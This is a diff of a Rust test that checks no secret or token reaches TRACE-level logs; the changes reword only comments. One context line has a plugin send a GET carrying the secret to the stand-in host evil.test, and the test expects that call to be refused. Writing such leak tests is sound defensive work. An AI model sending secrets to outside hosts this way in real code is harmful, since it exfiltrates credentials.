@@ -1,4 +1,4 @@
-//! What a request leaves in logs at TRACE: one audit event, and of secrets nothing.
+//! What a request leaves in logs at TRACE: one audit event, and no secret.
 
 use crate::capability::testing::{Fixture, Logs, Server, get, text};
 use crate::capability::{Body, Level, Request, Value};
@@ -6,7 +6,7 @@ use crate::capability::{Body, Level, Request, Value};
 const SECRET: &str = "hunter2+&\"secret";
 const TOKEN: &str = "at-0123456789abcdef";
 
-/// Every spelling in which the secret or the token might have been written.
+/// All encodings in which the secret or the token might have been logged.
 fn spellings() -> Vec<String> {
     use crate::capability::Encoding;
     let mut found = Vec::new();
@@ -63,13 +63,13 @@ async fn nothing_at_trace_shows_a_secret_or_an_answers_token() {
             );
             let lost = call.send(request(&closing)).await.unwrap_err();
             let named = call.open(SECRET).await.unwrap_err();
-            // The plugin's own text is its own; what it passes on is scrubbed.
+            // The plugin's own text is unchanged; what it returns is scrubbed.
             let named = call.scrub_failure(named);
             let refused = call
                 .send(get(format!("http://evil.test/?{SECRET}")))
                 .await
                 .unwrap_err();
-            // A plugin that may read a secret may put it where no handle goes.
+            // A plugin that may read a secret may put it where handles are not accepted.
             call.send(get(server.url(&format!("/bot{SECRET}/me"))))
                 .await
                 .unwrap();
